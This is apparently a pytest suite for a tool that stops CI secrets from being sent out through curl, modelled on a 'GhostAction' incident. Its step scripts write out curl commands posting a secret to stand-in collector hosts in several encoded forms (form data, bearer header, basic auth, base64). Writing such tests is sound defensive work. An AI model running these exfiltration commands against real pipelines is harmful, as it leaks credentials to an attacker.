# SPDX-License-Identifier: MIT
"""I-10, GhostAction: a step posts a secret with curl; the secret stands in curl's argv.

In September 2025 over HTTPS to a host name, in September 2026 over plain HTTP to a bare address.
The platform had put the value itself into the step's script, as here.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest

from lab import Lab, cgroup, tokens
from lab.guard import FINDINGS, Guarded, assert_leak_stopped
from lab.network import BARE
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

RUN_DIRECTORIES = Path("/run/leakstop")
HTTPS_2025 = ("https://collector.test/", "collector.test")
HTTP_2026 = (f"http://{BARE}/", f"{BARE}:80")
TARGETS = [
    pytest.param(*HTTPS_2025, id="https-name"),
    pytest.param(*HTTP_2026, id="http-bare-address"),
    pytest.param("http://[2001:db8::66]/", "[2001:db8::66]:80", id="http-bare-ipv6"),
    pytest.param(f"http://[::ffff:{BARE}]/", f"{BARE}:80", id="http-mapped-ipv4"),
    pytest.param(f"https://{BARE}/", f"{BARE}:443", id="https-bare-address"),
]
SHAPES = {
    "form": '-X POST -d "{name}={value}"',
    "urlencoded": '--data-urlencode "{name}={value}"',
    "header": '-H "Authorization: Bearer {value}"',
    "basic-auth": '-u "ci:{value}"',
    "query": '-G -d "q={value}"',
    "base64": '-d "$(printf %s "${name}" | base64 -w0)"',
    "base64-of-pair": '-d "$(printf %s "{name}=${name}" | base64 -w0)"',
}


def step(lab: Lab, token: Token, url: str, shape: str = "form") -> list[str]:
    """The step as the runner starts it: a shell with a script file that holds the value."""
    arguments = SHAPES[shape].format(name=token.name, value=token.value)
    script = lab.directory / "step.sh"
    script.write_text(f"curl -s -m 10 {arguments} {url}\n")
    return ["sh", "-e", str(script)]


@pytest.mark.parametrize(("url", "_destination"), TARGETS)
def test_unguarded_the_collector_has_the_secret(
    lab: Lab, secret: Token, url: str, _destination: str
) -> None:
    lab.run(step(lab, secret, url), env=secret.env)
    assert lab.collector.bytes_of(secret.value.encode()) == len(secret.value)


@pytest.mark.parametrize("mode", ["audit", "block"])
@pytest.mark.parametrize(("url", "destination"), TARGETS)
def test_guarded_the_collector_has_nothing(
    lab: Lab, leakstop: Guard, secret: Token, mode: str, url: str, destination: str
) -> None:
    run = leakstop(step(lab, secret, url), mode=mode, secrets=[secret])
    assert lab.collector.connections == []
    assert_leak_stopped(
        run, secret, finding="secret-in-argv", program="curl", destination=destination
    )
    assert run.report["mode"] == mode


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_however_the_secret_is_written(
    lab: Lab, leakstop: Guard, secret: Token, shape: str
) -> None:
    command = step(lab, secret, HTTPS_2025[0], shape)
    unguarded = lab.run(command, env=secret.env)
    assert unguarded.returncode == 0 and len(lab.collector.connections) == 1

    run = leakstop(command, mode="audit", secrets=[secret])
    assert len(lab.collector.connections) == 1, "no second connection"
    assert_leak_stopped(
        run, secret, finding="secret-in-argv", program="curl", destination=HTTPS_2025[1]
    )


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_a_secret_that_nobody_placed_is_stopped_at_a_bare_address(
    lab: Lab, leakstop: Guard, mode: str
) -> None:
    """The 2026 form stole a home-made token: no format says where it belongs."""
    token = tokens.home_made()
    url, destination = HTTP_2026
    run = leakstop(step(lab, token, url), mode=mode, secrets=[token])
    assert lab.collector.connections == []
    assert_leak_stopped(
        run, token, finding="secret-in-argv", program="curl", destination=destination
    )


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_an_allowed_host_is_no_free_drop(
    lab: Lab, leakstop: Guard, secret: Token, mode: str
) -> None:
    run = leakstop(
        step(lab, secret, HTTPS_2025[0]),
        mode=mode,
        policy="version: 1\nallow: collector.test\n",
        secrets=[secret],
    )
    assert lab.collector.connections == []
    assert_leak_stopped(
        run, secret, finding="secret-in-argv", program="curl", destination=HTTPS_2025[1]
    )


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_the_same_token_towards_its_home_passes(
    lab: Lab, leakstop: Guard, secret: Token, mode: str
) -> None:
    run = leakstop(
        step(lab, secret, "https://home.test/"),
        mode=mode,
        policy=f"version: 1\nallow: home.test\nsecrets: {{{secret.name}: home.test}}\n",
        secrets=[secret],
    )
    assert run.code == 0, run.stderr
    assert (run.report["verdict"], run.findings()) == ("pass", [])
    assert lab.home.bytes_of(secret.value.encode()) == len(secret.value)
    assert run.shows(secret) == []


@pytest.mark.parametrize(
    "script",
    [
        pytest.param('/usr/bin/test -n "$TOKEN"', id="test-n"),
        pytest.param('/usr/bin/printf %s "$TOKEN" > copy', id="printf"),
        pytest.param('sh -c ": $TOKEN"; curl -sS https://other.test/', id="sibling"),
        pytest.param('sh -c ": $TOKEN; curl -sS https://other.test/"', id="child"),
    ],
)
def test_a_secret_on_a_command_line_alone_means_nothing(
    lab: Lab, leakstop: Guard, script: str
) -> None:
    """Each program is judged by its own command line, not by its parent's or sibling's."""
    token = tokens.npm("TOKEN")
    run = leakstop(
        ["sh", "-ec", script],
        mode="block",
        policy="version: 1\nallow: other.test\n",
        secrets=[token],
    )
    assert run.code == 0, run.stderr
    assert run.findings() == []
    assert len(lab.other.connections) == script.count("curl")
    assert run.shows(token) == []


def test_the_command_of_a_clean_run_keeps_its_exit_code(leakstop: Guard, secret: Token) -> None:
    run = leakstop(["sh", "-c", "exit 42"], mode="block", secrets=[secret])
    assert (run.code, run.report["verdict"]) == (42, "pass")


def test_nothing_of_the_guard_is_left_behind(lab: Lab, leakstop: Guard, secret: Token) -> None:
    before = set(RUN_DIRECTORIES.glob("*"))
    look = f"grep ^0:: /proc/self/cgroup; ls -d {RUN_DIRECTORIES}/*; sh -e {{}}"
    attack = " ".join(step(lab, secret, HTTP_2026[0])[2:])
    run = leakstop(["sh", "-c", look.format(attack)], mode="block", secrets=[secret])
    assert run.code == FINDINGS, run.stderr

    group, *directories = run.stdout.splitlines()
    assert Path(group).name.startswith("leakstop-"), "the command had a cgroup of its own"
    assert not (cgroup.mount_point() / group.removeprefix("0::/")).exists()
    mine = set(map(Path, directories)) - before
    assert mine, "the guard had a directory while it ran"
    deadline = time.monotonic() + 20  # other tests' guards may have been listed too
    while left := [path for path in mine if path.exists()]:
        assert time.monotonic() < deadline, left
        time.sleep(0.05)
    assert lab.job.processes() == []
